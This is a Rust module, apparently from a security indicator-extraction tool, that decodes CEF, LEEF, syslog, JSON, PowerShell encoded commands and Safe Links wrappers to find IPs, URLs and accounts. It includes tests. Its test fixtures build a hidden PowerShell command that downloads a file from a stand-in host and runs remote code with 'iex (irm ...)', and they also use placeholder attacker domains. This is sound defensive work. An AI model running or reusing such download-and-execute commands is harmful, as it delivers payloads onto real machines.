//! Pass 4's decoders: the formats forwarders and SIEMs wrap around indicators inside one string —
//! CEF and LEEF records ([`cef`]), syslog headers and `key=value` runs ([`keyvalue`]), JSON
//! serialized into a string ([`json`]), PowerShell's encoded commands ([`encoded`]) and
//! URL-defence wrappers ([`urldefense`]) — read by their meaning ([`keys`]) before the rest of the
//! text is scanned by [`crate::freetext`].
//!
//! Each decoder is pure and bounded: a field is read up to [`freetext::MAX_SCANNED_BYTES`], all
//! decoding of one field produces at most [`MAX_DECODED_BYTES`], decoders nest at most
//! [`MAX_DEPTH`] deep (a CEF record in a syslog line in a JSON string is as deep as it goes), a JSON
//! document is walked up to [`json::MAX_NODES`] nodes, and each runs in time linear in its input.
//! Each can be turned off with an inactive `free_text` mapping whose path is its switch
//! ([`Decoder::switch`], e.g. `@cef`), for one source or for all. Every indicator says which
//! decoder revealed it.

pub mod cef;
pub mod encoded;
pub mod json;
pub mod keys;
pub mod keyvalue;
pub mod urldefense;

use std::collections::HashSet;

use serde_json::Value;

use crate::entities;
use crate::freetext::{self, MAX_FOUND, MAX_SCANNED_BYTES};
use crate::indicators::IndicatorType;
use keys::Meaning;

string_enum!(
    /// A decoder that revealed an indicator inside an encoded or wrapped field.
    Decoder, "decoder", {
        Cef => "cef",
        Leef => "leef",
        Syslog => "syslog",
        KeyValue => "key-value",
        Json => "json",
        PowershellBase64 => "powershell-base64",
        UrlDefense => "url-defence",
    }
);

impl Decoder {
    /// The `free_text` mapping path that switches this decoder (`@cef`, `@powershell-base64`).
    pub fn switch(self) -> String {
        format!("@{}", self.as_str())
    }
}

/// How deep decoders nest.
pub const MAX_DEPTH: usize = 2;
/// The most text all decoding of one field produces.
pub const MAX_DECODED_BYTES: usize = 256 * 1024;

/// Which decoders run (all, unless a `free_text` mapping turned one off).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Switches {
    off: Vec<Decoder>,
}

impl Switches {
    /// Every decoder on.
    pub fn all_on() -> Self {
        Self::default()
    }

    /// Turns `decoder` off.
    pub fn turn_off(&mut self, decoder: Decoder) {
        if !self.off.contains(&decoder) {
            self.off.push(decoder);
        }
    }

    /// Whether `decoder` runs.
    pub fn is_on(&self, decoder: Decoder) -> bool {
        !self.off.contains(&decoder)
    }
}

/// One indicator found in a field, and the decoder that revealed it (`None`: written plainly).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Found {
    /// Its type.
    pub kind: IndicatorType,
    /// The value as written once decoded (normalized later like every other value).
    pub value: String,
    /// The innermost decoder it was found through.
    pub decoder: Option<Decoder>,
}

/// The address in `host:port`, `ip:port` or `[v6]:port` (the value itself otherwise).
pub fn strip_port(value: &str) -> &str {
    if let Some(rest) = value.strip_prefix('[') {
        return rest.split_once(']').map(|(inside, _)| inside).unwrap_or(value);
    }
    match value.rsplit_once(':') {
        // One colon only: an IPv6 address has several.
        Some((host, port))
            if !host.contains(':') && !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit()) =>
        {
            host
        }
        _ => value,
    }
}

/// The first `MAX_SCANNED_BYTES` of `text`, at a character boundary.
fn bounded(text: &str) -> &str {
    let mut end = text.len().min(MAX_SCANNED_BYTES);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// Finds the indicators in one field's `text`, decoding what is wrapped in it.
pub fn scan(text: &str, switches: &Switches) -> Vec<Found> {
    scan_counting(text, switches).0
}

/// [`scan`], and how many bytes of text were scanned in all (every level of decoding counted):
/// the measure that stays linear in the input.
fn scan_counting(text: &str, switches: &Switches) -> (Vec<Found>, usize) {
    let mut scanner =
        Scanner { switches, found: Vec::new(), seen: HashSet::new(), budget: MAX_DECODED_BYTES, work: 0 };
    scanner.text(bounded(text), 0, None);
    (scanner.found, scanner.work)
}

struct Scanner<'s> {
    switches: &'s Switches,
    found: Vec<Found>,
    seen: HashSet<(IndicatorType, String)>,
    /// Decoded bytes still allowed for this field.
    budget: usize,
    /// Bytes of text looked at, over every level.
    work: usize,
}

impl Scanner<'_> {
    fn on(&self, decoder: Decoder) -> bool {
        self.switches.is_on(decoder)
    }

    /// Takes `bytes` of decoded output from the budget; false when it is spent.
    fn spend(&mut self, bytes: usize) -> bool {
        if bytes > self.budget {
            self.budget = 0;
            return false;
        }
        self.budget -= bytes;
        true
    }

    /// Records an indicator, unwrapping a URL-defence wrapper (the wrapper is not reported).
    fn push(&mut self, kind: IndicatorType, value: String, via: Option<Decoder>) {
        if kind == IndicatorType::Url
            && self.on(Decoder::UrlDefense)
            && let Some(real) = urldefense::unwrap(&value)
        {
            match real {
                urldefense::Unwrapped::Url(url) => {
                    self.record(IndicatorType::Url, url, Some(Decoder::UrlDefense))
                }
                urldefense::Unwrapped::Domain(domain) => {
                    if let Some((kind, value)) = keys::typed(Meaning::Host, &domain) {
                        self.record(kind, value, Some(Decoder::UrlDefense));
                    }
                }
                urldefense::Unwrapped::Nothing => {}
            }
            return;
        }
        self.record(kind, value, via);
    }

    fn record(&mut self, kind: IndicatorType, value: String, decoder: Option<Decoder>) {
        if self.found.len() < MAX_FOUND && self.seen.insert((kind, value.clone())) {
            self.found.push(Found { kind, value, decoder });
        }
    }

    /// A key's value: typed by the key's meaning, skipped when the key means nothing, otherwise
    /// scanned as text.
    fn pair(&mut self, key: &str, value: &str, depth: usize, via: Decoder) {
        match keys::meaning(key) {
            Some(Meaning::Ignored) => {}
            Some(meaning) => match keys::typed(meaning, value) {
                Some((kind, value)) => self.push(kind, value, Some(via)),
                // A URL key holding a bare host (`request=evil.example/x`) and the like.
                None if matches!(meaning, Meaning::Url | Meaning::Host) => self.text(value, depth, Some(via)),
                None => {}
            },
            None => self.text(value, depth, Some(via)),
        }
    }

    fn text(&mut self, text: &str, depth: usize, via: Option<Decoder>) {
        if text.trim().is_empty() {
            return;
        }
        self.work += text.len();
        if depth < MAX_DEPTH
            && self.on(Decoder::Json)
            && let Some(document) = json::parse(text)
        {
            self.json(&document, depth + 1);
            return;
        }
        // A record anywhere (after a syslog header, a timestamp, a forwarder's prefix): the
        // prefix is text of its own, the record is read field by field.
        if depth < MAX_DEPTH
            && let Some(record) = cef::find(text)
            && self.on(record.decoder)
        {
            self.text(text.get(..record.start).unwrap_or_default(), depth, via);
            self.record_fields(&record, depth + 1);
            return;
        }
        let mut body = text;
        if self.on(Decoder::Syslog)
            && let Some(header) = keyvalue::syslog(text)
        {
            for (key, value) in &header.structured {
                self.pair(key, value, depth, Decoder::Syslog);
            }
            body = text.get(header.message_start..).unwrap_or_default();
        }
        let mut masked: Option<Vec<u8>> = None;
        if self.on(Decoder::KeyValue) {
            for pair in keyvalue::pairs(body) {
                let Some(meaning) = keys::meaning(&pair.key) else { continue };
                let typed = keys::typed(meaning, &pair.value);
                if let Some((kind, value)) = typed.clone() {
                    self.push(kind, value, Some(Decoder::KeyValue));
                }
                // A value read by its key (or one that means nothing) is not scanned again.
                if typed.is_some() || meaning == Meaning::Ignored {
                    let bytes = masked.get_or_insert_with(|| body.as_bytes().to_vec());
                    if let Some(span) = bytes.get_mut(pair.span.0..pair.span.1) {
                        span.fill(b' ');
                    }
                }
            }
        }
        if depth < MAX_DEPTH && self.on(Decoder::PowershellBase64) {
            for decoded in encoded::encoded_commands(body) {
                // The base64 is read once, decoded; the plain scan skips it.
                let bytes = masked.get_or_insert_with(|| body.as_bytes().to_vec());
                if let Some(span) = bytes.get_mut(decoded.span.0..decoded.span.1) {
                    span.fill(b' ');
                }
                if !self.spend(decoded.text.len()) {
                    break;
                }
                self.text(&decoded.text, depth + 1, Some(Decoder::PowershellBase64));
            }
        }
        let plain = masked.map(|bytes| String::from_utf8_lossy(&bytes).into_owned());
        for found in freetext::scan(plain.as_deref().unwrap_or(body)) {
            self.push(found.kind, found.value, via);
        }
    }

    /// A CEF or LEEF record's fields: the event name as text, each pair by its key, custom
    /// fields (`cs1`…) by what their label (`cs1Label`) names.
    fn record_fields(&mut self, record: &cef::Record, depth: usize) {
        let via = record.decoder;
        if record.decoder == Decoder::Cef
            && let Some(name) = record.header.get(4)
        {
            self.text(name, depth, Some(via));
        }
        // `cs1Label=Destination URL` names what `cs1` holds: indexed once (a record may carry
        // thousands of pairs).
        let labels: std::collections::HashMap<String, &str> = record
            .pairs
            .iter()
            .filter_map(|(k, v)| {
                let lower = k.to_ascii_lowercase();
                lower.strip_suffix("label").map(|field| (field.to_string(), v.as_str()))
            })
            .collect();
        let label_of = |key: &str| labels.get(&key.to_ascii_lowercase()).copied();
        for (key, value) in &record.pairs {
            if key.to_ascii_lowercase().ends_with("label") {
                continue;
            }
            match label_of(key).and_then(keys::meaning_of_label) {
                Some(meaning) => match keys::typed(meaning, value) {
                    Some((kind, value)) => self.push(kind, value, Some(via)),
                    None => self.text(value, depth, Some(via)),
                },
                None => self.pair(key, value, depth, via),
            }
        }
    }

    /// A parsed JSON document: entities by the entity code, keys by their meaning, other strings
    /// scanned as text (a string holding JSON again is decoded while depth allows).
    fn json(&mut self, document: &Value, depth: usize) {
        let ids = entities::ids(document);
        // Each node with its key and its parent's key: `{"user": {"name": …}}` is `user.name`.
        let mut stack: Vec<(Option<&str>, Option<&str>, &Value)> = vec![(None, None, document)];
        let mut nodes = 0;
        while let Some((parent, key, node)) = stack.pop() {
            nodes += 1;
            if nodes > json::MAX_NODES {
                break;
            }
            match node {
                Value::Object(map) => {
                    let entity = entities::kind(node);
                    if let Some(kind) = &entity {
                        let mut found = Vec::new();
                        entities::indicators(node, kind, &ids, &mut found);
                        for f in found {
                            // Checked as a key of its type would be: no `corp.local` host, no
                            // `SYSTEM` account, no `999.1.1.1` address; defanged URLs refanged.
                            let meaning = match f.kind {
                                IndicatorType::Ip => Meaning::Ip,
                                IndicatorType::Domain => Meaning::Host,
                                IndicatorType::Url => Meaning::Url,
                                IndicatorType::Email => Meaning::Email,
                                IndicatorType::Account => Meaning::Account,
                                _ => Meaning::Hash,
                            };
                            if let Some((kind, value)) = keys::typed(meaning, &f.value) {
                                self.push(kind, value, Some(Decoder::Json));
                            }
                        }
                    }
                    for (k, v) in map.iter().rev() {
                        if entity.is_some() && json::ENTITY_FIELDS.contains(&k.as_str()) {
                            continue;
                        }
                        stack.push((key, Some(k.as_str()), v));
                    }
                }
                Value::Array(items) => stack.extend(items.iter().rev().map(|v| (parent, key, v))),
                Value::String(text) => match key {
                    Some(key) => {
                        if !self.spend(text.len()) {
                            break;
                        }
                        let joined = parent.map(|p| format!("{p}.{key}"));
                        let key = match &joined {
                            Some(joined) if keys::meaning(joined).is_some() => joined.as_str(),
                            _ => key,
                        };
                        self.pair(key, text, depth, Decoder::Json);
                    }
                    None => self.text(text, depth, Some(Decoder::Json)),
                },
                _ => {}
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use IndicatorType::*;

    fn found(text: &str) -> Vec<(IndicatorType, String, Option<&'static str>)> {
        scan(text, &Switches::all_on())
            .into_iter()
            .map(|f| (f.kind, f.value, f.decoder.map(Decoder::as_str)))
            .collect()
    }

    fn one(
        kind: IndicatorType,
        value: &str,
        decoder: Option<&'static str>,
    ) -> (IndicatorType, String, Option<&'static str>) {
        (kind, value.to_string(), decoder)
    }

    #[test]
    fn ports_come_off_addresses() {
        assert_eq!(strip_port("203.0.113.7:4444"), "203.0.113.7");
        assert_eq!(strip_port("[2001:db8::5]:443"), "2001:db8::5");
        assert_eq!(strip_port("evil.example:8443"), "evil.example");
        assert_eq!(strip_port("2001:db8::5"), "2001:db8::5");
    }

    #[test]
    fn a_cef_record_in_splunks_raw_reads_the_account_not_a_bogus_domain() {
        let raw = r"<13>Dec 01 10:00:00 fw01 CEF:0|Palo Alto Networks|PAN-OS|10.1|end|TRAFFIC|3|src=203.0.113.5 dst=198.51.100.20 suser=CORP\\jdoe.admin shost=WS-042 smac=00:11:22:33:44:55 request=https://evil-cdn.top/a.exe fname=a.exe";
        assert_eq!(
            found(raw),
            [
                one(Ip, "203.0.113.5", Some("cef")),
                one(Ip, "198.51.100.20", Some("cef")),
                one(Account, "CORP\\jdoe.admin", Some("cef")),
                one(Url, "https://evil-cdn.top/a.exe", Some("cef")),
            ]
        );
    }

    #[test]
    fn leef_and_kv_users_are_accounts() {
        assert_eq!(
            found("LEEF:1.0|IBM|QRadar|7.5|LOGIN|src=192.0.2.44\tusrName=ann.lee\tsev=3"),
            [one(Ip, "192.0.2.44", Some("leef")), one(Account, "ann.lee", Some("leef"))]
        );
        assert_eq!(
            found(
                "<86>Dec  1 10:00:00 bastion sshd[311]: login user=root@corp.example.com src=185.220.101.4 port=22"
            ),
            [
                one(Account, "root@corp.example.com", Some("key-value")),
                one(Ip, "185.220.101.4", Some("key-value"))
            ]
        );
    }

    #[test]
    fn json_in_a_string_with_sentinel_entities() {
        let entities = r#"[{"$id":"2","Type":"account","Name":"jdoe","UPNSuffix":"contoso.com"},{"$id":"3","Type":"ip","Address":"203.0.113.77"},{"$id":"4","Type":"url","Url":"https://login-contoso.example/x"},{"$id":"5","Type":"filehash","Algorithm":"SHA256","Value":"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}]"#;
        let got = found(entities);
        assert_eq!(got.len(), 4, "{got:?}");
        assert!(got.iter().all(|(_, _, d)| *d == Some("json")));
        assert!(got.contains(&one(Account, "jdoe@contoso.com", Some("json"))));
    }

    #[test]
    fn an_encoded_command_reveals_its_urls() {
        use base64::Engine as _;
        let command = "$c=New-Object Net.WebClient;$c.DownloadFile('http://203.0.113.9:8080/p.exe','p.exe');iex (irm http://c2.evil-cdn.top/s)";
        let bytes: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let line = format!(
            "powershell.exe -nop -w hidden -enc {}",
            base64::engine::general_purpose::STANDARD.encode(bytes)
        );
        assert_eq!(
            found(&line),
            [
                one(Url, "http://203.0.113.9:8080/p.exe", Some("powershell-base64")),
                one(Url, "http://c2.evil-cdn.top/s", Some("powershell-base64")),
            ]
        );
        let mut off = Switches::all_on();
        off.turn_off(Decoder::PowershellBase64);
        assert!(scan(&line, &off).is_empty());
    }

    #[test]
    fn wrappers_give_way_to_the_real_url() {
        assert_eq!(
            found(
                "Click https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example%2Fpay&data=05 now"
            ),
            [one(Url, "https://evil.example/pay", Some("url-defence"))]
        );
    }

    #[test]
    fn depth_is_bounded() {
        // JSON in JSON in JSON: the innermost string is not decoded a third time.
        let inner = serde_json::to_string(&serde_json::json!({"msg": "src=203.0.113.1"})).unwrap();
        let middle = serde_json::to_string(&serde_json::json!({"payload": inner})).unwrap();
        let outer = serde_json::to_string(&serde_json::json!({"payload": middle})).unwrap();
        assert!(found(&middle).iter().any(|(k, _, _)| *k == Ip));
        // At depth 2 the third document is scanned as text: the address is still found plainly.
        assert!(found(&outer).iter().any(|(k, _, _)| *k == Ip));
    }

    /// Recall and precision per class over the labelled corpus in `testdata/freetext_corpus.json`
    /// (the texts with a `class`, written from vendors' documentation apart from this code; the
    /// plain texts as `plain`). Printed with
    /// `cargo test -p calseta-core decoders::tests::corpus -- --nocapture`.
    #[test]
    fn corpus_recall_and_precision_per_class() {
        let corpus: Vec<serde_json::Value> =
            serde_json::from_str(include_str!("../../testdata/freetext_corpus.json")).unwrap();
        let mut classes: std::collections::BTreeMap<String, (usize, usize, usize, usize)> =
            Default::default();
        for case in &corpus {
            let class = case.get("class").and_then(Value::as_str).unwrap_or("plain").to_string();
            let text = case["text"].as_str().unwrap();
            let expected: Vec<(String, String)> = case["expect"]
                .as_array()
                .unwrap()
                .iter()
                .map(|p| (p[0].as_str().unwrap().to_string(), p[1].as_str().unwrap().to_string()))
                .collect();
            let got: Vec<(String, String)> = scan(text, &Switches::all_on())
                .into_iter()
                .map(|f| (f.kind.as_str().to_string(), f.value))
                .collect();
            let entry = classes.entry(class.clone()).or_default();
            entry.0 += 1;
            for item in &got {
                if expected.contains(item) {
                    entry.1 += 1;
                } else {
                    entry.2 += 1;
                    println!("[{class}] false positive {item:?} in {text}");
                }
            }
            for item in expected.iter().filter(|e| !got.contains(e)) {
                entry.3 += 1;
                println!("[{class}] missed {item:?} in {text}");
            }
        }
        let mut failing = Vec::new();
        for (class, (texts, found, false_positives, missed)) in &classes {
            let recall = *found as f64 / (found + missed).max(1) as f64;
            let precision = *found as f64 / (found + false_positives).max(1) as f64;
            println!(
                "{class:>15}: {texts:>3} texts, {found:>3} found, {false_positives:>2} false positives, {missed:>2} missed: recall {recall:.3}, precision {precision:.3}"
            );
            if recall < 0.95 || precision < 0.97 {
                failing.push(format!("{class}: recall {recall:.3}, precision {precision:.3}"));
            }
        }
        assert!(failing.is_empty(), "below recall 0.95 / precision 0.97: {failing:?}");
    }

    /// Adversarial inputs: deep nesting, huge base64, unterminated escapes and quotes, records
    /// that never end. Each is scanned without a panic, and the bytes looked at stay within a
    /// small multiple of the input (every level of decoding counted), so time stays linear.
    #[test]
    fn adversarial_inputs_stay_linear() {
        use base64::Engine as _;
        let b64 = base64::engine::general_purpose::STANDARD;
        let nested_json = format!("{}\"x\"{}", "[".repeat(5_000), "]".repeat(5_000));
        let mut json_in_json = String::from("src=203.0.113.1");
        for _ in 0..6 {
            json_in_json = serde_json::to_string(&serde_json::json!({ "msg": json_in_json })).unwrap();
        }
        let huge_base64 = format!("powershell -enc {}", b64.encode("A".repeat(200_000)));
        let utf16: Vec<u8> =
            "iex http://203.0.113.9/a ".repeat(2_000).encode_utf16().flat_map(u16::to_le_bytes).collect();
        let many_commands = format!("powershell -enc {} ", b64.encode(&utf16)).repeat(20);
        let inputs = [
            nested_json,
            json_in_json,
            huge_base64,
            many_commands,
            format!("CEF:0|a|b|c|d|e|f|{}", "k=\\\\\\=".repeat(20_000)),
            format!("CEF:0|{}", "\\|".repeat(30_000)),
            format!("LEEF:2.0|a|b|c|d|x5E|{}", "^k=v".repeat(20_000)),
            format!("<13>Oct 11 22:14:15 host {}", "a=\"".repeat(20_000)),
            format!("<165>1 2003-10-11T22:14:15Z h a p m {}", "[id k=\"v\"".repeat(10_000)),
            "msg='".repeat(20_000),
            format!("https://urldefense.com/v3/__{}__;{}!!x$", "*".repeat(10_000), "QUFB".repeat(2_000)),
            "user=a ".repeat(20_000),
        ];
        for input in &inputs {
            let (found, work) = scan_counting(input, &Switches::all_on());
            let looked_at = input.len().min(MAX_SCANNED_BYTES);
            assert!(
                work <= 4 * looked_at + MAX_DECODED_BYTES,
                "{} bytes of input looked at as {work} bytes",
                input.len()
            );
            assert!(found.len() <= MAX_FOUND);
        }
    }

    proptest::proptest! {
        #[test]
        fn decoding_never_panics(parts in proptest::collection::vec(proptest::sample::select(vec![
            "CEF:0|", "LEEF:1.0|", "LEEF:2.0|", "|", "\\", "=", " ", "\t", "^", "x5E", "src=", "suser=",
            "cs1Label=URL ", "cs1=", "<13>", "<165>1 ", "Oct 11 22:14:15 ", "[id k=\"", "\"]", "{", "}", "[", "]",
            "\"Type\":\"ip\"", "\"Address\":", "\"", ":", ",", "-enc ", "FromBase64String('", "')",
            "SQBFAFgA", "aAB0AHQAcAA6AC8ALwA", "==", "https://urldefense.com/v3/__", "__;", "!!", "*", "**A",
            "https://nam02.safelinks.protection.outlook.com/?url=", "%3A%2F%2F", "203.0.113.5", ":443",
            "[2001:db8::1]", "evil-cdn.top", "é", "👍",
        ]), 0..60)) {
            let _ = scan(&parts.concat(), &Switches::all_on());
        }

        #[test]
        fn decoding_arbitrary_text_never_panics(text in "\\PC{0,400}") {
            let _ = scan(&text, &Switches::all_on());
        }
    }
}
